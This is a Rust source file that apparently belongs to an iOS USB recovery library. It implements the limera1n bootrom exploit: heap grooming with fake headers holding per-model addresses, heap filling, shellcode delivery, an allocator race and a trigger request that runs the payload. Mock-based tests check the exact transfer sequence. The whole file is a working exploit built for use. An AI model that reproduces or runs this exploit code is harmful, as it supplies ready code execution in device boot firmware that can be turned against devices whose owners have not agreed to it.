//! limera1n heap-grooming sequence.
//!
//! Lays out fake heap headers, fills the heap up to a fixed distance from
//! its end, places the shellcode, then races the allocator with a read/write
//! pair before triggering execution. Many of these transfers are expected to
//! come back empty or fail, so nothing here aborts once the first byte is on
//! the wire; failures are counted instead.

use std::thread;
use std::time::Duration;

use byteorder::{ByteOrder, LittleEndian};
use tracing::{debug, info, instrument, warn};

use super::models::{self, ModelProfile};
use crate::error::{IrecvError, Result};
use crate::events::{IrecvEvent, IrecvObserver, IrecvPhase, LogLevel};
use crate::mode::DeviceMode;
use crate::protocol::constants::*;
use crate::session::{DeviceSession, SessionConfig};
use crate::transport::{ControlSetup, UsbBus, UsbTransport};

/// Packet size of every buffer in the sequence.
pub const EXPLOIT_PACKET_SIZE: usize = DFU_PACKET_SIZE;
/// Block size/flag words at the start of every fake heap header.
pub const HEAP_HEADER_FLAGS: [u32; 2] = [0x405, 0x101];
pub const HEAP_HEADER_LEN: usize = 16;
/// Distance between consecutive heap headers; the gap keeps the filler byte.
pub const HEAP_HEADER_STRIDE: usize = 0x40;
pub const FILLER_BYTE: u8 = 0xCC;
pub const FAKE_DATA_BYTE: u8 = 0xBB;
/// Status reads issued after the trigger.
pub const TRAILING_STATUS_READS: usize = 3;

/// Result of a completed sequence.
pub struct ExploitReport<T: UsbTransport, O: IrecvObserver> {
    /// Session on the re-enumerated device.
    pub session: DeviceSession<T, O>,
    /// Transfers that failed or moved fewer bytes than requested.
    pub unacknowledged_transfers: u32,
}

/// Build the 0x800-byte block of heap headers, one every
/// `HEAP_HEADER_STRIDE` bytes over a filler background.
pub fn heap_headers(model: &ModelProfile) -> [u8; EXPLOIT_PACKET_SIZE] {
    let mut buf = [FILLER_BYTE; EXPLOIT_PACKET_SIZE];
    for offset in (0..EXPLOIT_PACKET_SIZE).step_by(HEAP_HEADER_STRIDE) {
        LittleEndian::write_u32_into(
            &[
                HEAP_HEADER_FLAGS[0],
                HEAP_HEADER_FLAGS[1],
                model.shellcode_address,
                model.stack_address,
            ],
            &mut buf[offset..offset + HEAP_HEADER_LEN],
        );
    }
    buf
}

/// Offsets of the filler packets for a model.
pub fn filler_offsets(model: &ModelProfile) -> impl Iterator<Item = u32> {
    let end = model.max_size - (EXPLOIT_PACKET_SIZE as u32) * 3;
    (0..end).step_by(EXPLOIT_PACKET_SIZE)
}

/// Run limera1n against the device in `session` and reconnect afterwards.
///
/// The session is consumed: the device resets during the sequence, so the
/// old handle is closed and a new one is opened through `bus`.
#[instrument(skip(session, bus, shellcode), fields(len = shellcode.len()))]
pub fn limera1n<B, O>(
    session: DeviceSession<B::Transport, O>,
    bus: &B,
    model: &str,
    shellcode: &[u8],
) -> Result<ExploitReport<B::Transport, O>>
where
    B: UsbBus,
    O: IrecvObserver,
{
    let profile =
        models::lookup(model).ok_or_else(|| IrecvError::UnsupportedModel(model.to_string()))?;
    session.require_mode(DeviceMode::Wtf)?;
    if shellcode.len() > EXPLOIT_PACKET_SIZE {
        return Err(IrecvError::ShellcodeTooLarge {
            len: shellcode.len(),
            max: EXPLOIT_PACKET_SIZE,
        });
    }

    info!(model = profile.identifier, "Starting limera1n");
    session.observer().on_event(&IrecvEvent::PhaseChanged {
        from: IrecvPhase::Handshake,
        to: IrecvPhase::Exploit,
    });

    let unacknowledged = {
        let transport = session.observed();
        let mut sequencer = Sequencer {
            transport: &transport,
            config: session.config(),
            observer: session.observer().as_ref(),
            unacknowledged: 0,
        };
        sequencer.run(profile, shellcode);
        sequencer.unacknowledged
    };

    if unacknowledged > 0 {
        session.observer().on_event(&IrecvEvent::Log {
            level: LogLevel::Warn,
            message: format!("{} transfers went unacknowledged", unacknowledged),
        });
    }

    let config = session.config().clone();
    let observer = session.observer().clone();
    thread::sleep(config.settle_delay());
    drop(session);

    info!("Waiting for device to re-enumerate");
    let session = match DeviceSession::connect_with_observer(bus, config, observer) {
        Ok(session) => session,
        Err(IrecvError::DeviceNotFound) => return Err(IrecvError::ReconnectFailed),
        Err(e) => return Err(e),
    };
    info!(mode = %session.mode(), unacknowledged, "Reconnected after exploit");

    Ok(ExploitReport {
        session,
        unacknowledged_transfers: unacknowledged,
    })
}

struct Sequencer<'a, T: UsbTransport, O: IrecvObserver> {
    transport: &'a T,
    config: &'a SessionConfig,
    observer: &'a O,
    unacknowledged: u32,
}

impl<T: UsbTransport, O: IrecvObserver> Sequencer<'_, T, O> {
    fn run(&mut self, model: &ModelProfile, shellcode: &[u8]) {
        let timeout = self.config.control_timeout();

        self.stage(1, "Resetting counters");
        self.write(DFU_CLRSTATUS, &[], timeout);

        self.stage(2, "Sending heap headers");
        self.write(DFU_DNLOAD, &heap_headers(model), timeout);

        self.stage(3, "Filling heap");
        let filler = [FILLER_BYTE; EXPLOIT_PACKET_SIZE];
        for offset in filler_offsets(model) {
            debug!(offset = %format!("{:#x}", offset), "Filler");
            self.write(DFU_DNLOAD, &filler, timeout);
        }

        self.stage(4, "Sending shellcode");
        let mut padded = [0u8; EXPLOIT_PACKET_SIZE];
        padded[..shellcode.len()].copy_from_slice(shellcode);
        self.write(DFU_DNLOAD, &padded, timeout);

        self.stage(5, "Sending fake data");
        let fake = [FAKE_DATA_BYTE; EXPLOIT_PACKET_SIZE];
        self.read(DFU_DNLOAD, EXPLOIT_PACKET_SIZE as u16, timeout);
        self.write(DFU_DNLOAD, &fake, self.config.exploit_write_timeout());

        self.stage(6, "Triggering");
        self.write(DFU_EXECUTE, &[], timeout);

        self.stage(7, "Resetting device");
        if let Err(e) = self.transport.reset() {
            warn!(error = %e, "Reset after trigger failed");
            self.unacknowledged += 1;
        }
        self.write(DFU_DNLOAD, &[], timeout);
        for _ in 0..TRAILING_STATUS_READS {
            self.read(DFU_GETSTATUS, STATUS_RESPONSE_LEN, self.config.status_timeout());
        }
    }

    fn stage(&self, stage: u8, description: &str) {
        self.observer.on_event(&IrecvEvent::ExploitStage {
            stage,
            description: description.to_string(),
        });
    }

    fn write(&mut self, request: u8, data: &[u8], timeout: Duration) {
        let setup = ControlSetup::new(REQ_TYPE_CLASS_OUT, request, 0, 0);
        match self.transport.control_out(setup, data, timeout) {
            Ok(n) if n == data.len() => {}
            Ok(n) => {
                debug!(?setup, expected = data.len(), actual = n, "Short write");
                self.unacknowledged += 1;
            }
            Err(e) => {
                debug!(?setup, error = %e, "Write failed");
                self.unacknowledged += 1;
            }
        }
    }

    fn read(&mut self, request: u8, length: u16, timeout: Duration) {
        let setup = ControlSetup::new(REQ_TYPE_CLASS_IN, request, 0, 0);
        match self.transport.control_in(setup, length, timeout) {
            Ok(data) if data.len() == length as usize => {}
            Ok(data) => {
                debug!(?setup, expected = length, actual = data.len(), "Short read");
                self.unacknowledged += 1;
            }
            Err(e) => {
                debug!(?setup, error = %e, "Read failed");
                self.unacknowledged += 1;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::events::NullObserver;
    use crate::transport::{MockBus, MockTransport, Transfer};

    fn config() -> SessionConfig {
        SessionConfig {
            settle_delay_ms: 0,
            ..SessionConfig::default()
        }
    }

    fn wtf_session(bus: &MockBus) -> (DeviceSession<MockTransport, NullObserver>, MockTransport) {
        let session =
            DeviceSession::connect_with_observer(bus, config(), Arc::new(NullObserver)).unwrap();
        let mock = bus.opened().pop().unwrap();
        (session, mock)
    }

    #[test]
    fn test_unsupported_model_issues_no_transfers() {
        let bus = MockBus::with_attached(&[WTF_PRODUCT_ID]);
        let (session, mock) = wtf_session(&bus);
        let err = limera1n(session, &bus, "iPhone9,9", &[0; 16]).err().unwrap();
        assert!(matches!(err, IrecvError::UnsupportedModel(ref m) if m == "iPhone9,9"));
        assert!(mock.transfers().is_empty());
    }

    #[test]
    fn test_requires_wtf_mode() {
        let bus = MockBus::with_attached(&[DFU_PRODUCT_ID]);
        let (session, mock) = wtf_session(&bus);
        let err = limera1n(session, &bus, "iPhone3,1", &[0; 16]).err().unwrap();
        assert!(matches!(
            err,
            IrecvError::WrongMode {
                expected: DeviceMode::Wtf,
                actual: DeviceMode::Dfu
            }
        ));
        assert!(mock.transfers().is_empty());
    }

    #[test]
    fn test_shellcode_too_large() {
        let bus = MockBus::with_attached(&[WTF_PRODUCT_ID]);
        let (session, _) = wtf_session(&bus);
        let err = limera1n(session, &bus, "iPhone3,1", &[0; 0x801]).err().unwrap();
        assert!(matches!(
            err,
            IrecvError::ShellcodeTooLarge {
                len: 0x801,
                max: 0x800
            }
        ));
    }

    #[test]
    fn test_heap_headers() {
        let model = models::lookup("iPhone3,1").unwrap();
        let buf = heap_headers(model);
        assert_eq!(&buf[..4], &[0x05, 0x04, 0x00, 0x00]);
        assert_eq!(&buf[4..8], &[0x01, 0x01, 0x00, 0x00]);
        assert_eq!(LittleEndian::read_u32(&buf[8..12]), 0x8402B001);
        assert_eq!(LittleEndian::read_u32(&buf[12..16]), 0x8403BF9C);
        assert!(buf[HEAP_HEADER_LEN..HEAP_HEADER_STRIDE].iter().all(|&b| b == FILLER_BYTE));
        assert_eq!(&buf[0x40..0x50], &buf[..0x10]);
        assert_eq!(&buf[0x7C0..0x7D0], &buf[..0x10]);
        assert!(buf[0x7D0..].iter().all(|&b| b == FILLER_BYTE));
    }

    #[test]
    fn test_filler_count() {
        let model = models::lookup("iPhone3,1").unwrap();
        assert_eq!(filler_offsets(model).count(), (0x2C000 - 0x1800) / 0x800);
        let model = models::lookup("iPhone2,1").unwrap();
        assert_eq!(filler_offsets(model).count(), (0x24000 - 0x1800) / 0x800);
    }

    #[test]
    fn test_sequence_and_reconnect() {
        let bus = MockBus::with_attached(&[WTF_PRODUCT_ID]);
        let (session, mock) = wtf_session(&bus);
        // Device comes back in DFU mode once the payload has run
        bus.set_attached(&[DFU_PRODUCT_ID]);

        let shellcode = [0x41u8; 0x100];
        let report = limera1n(session, &bus, "iPhone3,1", &shellcode).unwrap();
        assert_eq!(report.session.mode(), DeviceMode::Dfu);
        assert_eq!(report.unacknowledged_transfers, 0);

        let transfers = mock.transfers();
        let fillers = (0x2C000 - 0x1800) / 0x800;
        // reset counters, headers, fillers, shellcode, fake read + write,
        // trigger, reset, finalize, 3 status reads
        assert_eq!(transfers.len(), 1 + 1 + fillers + 1 + 2 + 1 + 1 + 1 + 3);

        assert_eq!(transfers[0].setup(), Some(ControlSetup::new(0x21, 4, 0, 0)));
        match &transfers[1] {
            Transfer::ControlOut { setup, data, .. } => {
                assert_eq!(*setup, ControlSetup::new(0x21, 1, 0, 0));
                assert_eq!(data.as_slice(), &heap_headers(models::lookup("iPhone3,1").unwrap()));
            }
            other => panic!("unexpected transfer {:?}", other),
        }
        assert!(transfers[2..2 + fillers].iter().all(|t| matches!(
            t,
            Transfer::ControlOut { data, .. } if data.len() == 0x800 && data.iter().all(|&b| b == 0xCC)
        )));

        let mut rest = transfers[2 + fillers..].iter();
        match rest.next() {
            Some(Transfer::ControlOut { data, .. }) => {
                assert_eq!(data.len(), 0x800);
                assert_eq!(&data[..0x100], &shellcode);
                assert!(data[0x100..].iter().all(|&b| b == 0));
            }
            other => panic!("expected shellcode, got {:?}", other),
        }
        assert_eq!(
            rest.next(),
            Some(&Transfer::ControlIn {
                setup: ControlSetup::new(0xA1, 1, 0, 0),
                length: 0x800
            })
        );
        match rest.next() {
            Some(Transfer::ControlOut { setup, data, timeout }) => {
                assert_eq!(*setup, ControlSetup::new(0x21, 1, 0, 0));
                assert!(data.iter().all(|&b| b == 0xBB));
                assert_eq!(*timeout, Duration::from_millis(10));
            }
            other => panic!("expected fake data, got {:?}", other),
        }
        assert_eq!(rest.next().and_then(Transfer::setup), Some(ControlSetup::new(0x21, 2, 0, 0)));
        assert_eq!(rest.next(), Some(&Transfer::Reset));
        match rest.next() {
            Some(Transfer::ControlOut { setup, data, .. }) => {
                assert_eq!(*setup, ControlSetup::new(0x21, 1, 0, 0));
                assert!(data.is_empty());
            }
            other => panic!("expected finalize, got {:?}", other),
        }
        assert_eq!(
            rest.filter(|t| t.setup() == Some(ControlSetup::new(0xA1, 3, 0, 0)))
                .count(),
            3
        );
    }

    #[test]
    fn test_failures_are_counted_not_fatal() {
        let bus = MockBus::with_attached(&[WTF_PRODUCT_ID]);
        let (session, mock) = wtf_session(&bus);
        mock.set_strict(true);
        mock.queue_control_response(&[]);

        let report = limera1n(session, &bus, "iPod3,1", &[]).unwrap();
        // the empty fake-data read and the three timed-out status reads
        assert_eq!(report.unacknowledged_transfers, 1 + 3);
    }

    #[test]
    fn test_reconnect_failure() {
        let bus = MockBus::with_attached(&[WTF_PRODUCT_ID]);
        let (session, _) = wtf_session(&bus);
        bus.set_attached(&[]);
        let err = limera1n(session, &bus, "iPhone3,1", &[0; 4]).err().unwrap();
        assert!(matches!(err, IrecvError::ReconnectFailed));
    }
}
